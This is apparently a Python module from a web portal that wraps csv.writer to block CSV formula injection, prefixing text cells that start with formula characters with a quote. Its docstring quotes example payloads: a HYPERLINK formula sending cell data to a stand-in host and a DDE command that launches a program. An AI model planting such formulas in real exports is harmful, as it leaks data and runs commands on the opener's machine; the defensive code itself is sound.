"""CSV files the portal writes for people to open: no cell can start a spreadsheet formula.

A legacy export or a registry file may hold `=HYPERLINK("https://evil.example/?"&A1)` or
`=cmd|'/c calc'!A1`; the error report repeats the cell to the operator, who opens it in Excel or
LibreOffice, and the formula runs on the operator's machine. Every CSV the portal writes for a
person (the import and migration error reports, the staff-list template) goes through
`formula_safe_writer`; the test `tests/portal/test_csv_safety.py` finds any `csv.writer` outside
it. Internal CSV that no person opens (the COPY feed to PostgreSQL, a spool read back by the
same import) must stay byte-exact and is listed there as exempt.

The rule, OWASP's (CSV Injection): a text cell that starts with `=`, `+`, `-`, `@`, a tab, a
carriage return or a line feed (or their full-width forms, which some spreadsheets also read as
a formula) gets a single quote `'` in front, so spreadsheets show it as text. The csv module's
quoting already keeps a cell's commas and quotes from starting a new cell.

Numbers the portal writes itself (int, float, Decimal: row numbers, amounts, a negative balance)
are written as they are: they come from our code, not from a file, cannot hold a formula, and a
spreadsheet must still read them as numbers. Text is quoted whatever it looks like, even when it
looks like a number: text reaches here from outside, and "-2+3+cmd|..." shows how little a
"looks numeric" test proves. So "+989121234567", a mobile written as text, reads as
'+989121234567 - still the number a person can read and dial, and never 9.89E+11 or a formula.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

# The first characters a spreadsheet reads as the start of a formula or of a DDE command.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralise_cell(value: Any) -> Any:
    """The value as a spreadsheet should show it: text that could start a formula gets a `'`."""
    if value is None:
        return value
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class FormulaSafeWriter:
    """A csv.writer whose rows go through `neutralise_cell`, cell by cell."""

    def __init__(self, stream: "SupportsWrite[str]", **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def formula_safe_writer(stream: "SupportsWrite[str]", **fmtparams: Any) -> FormulaSafeWriter:
    return FormulaSafeWriter(stream, **fmtparams)
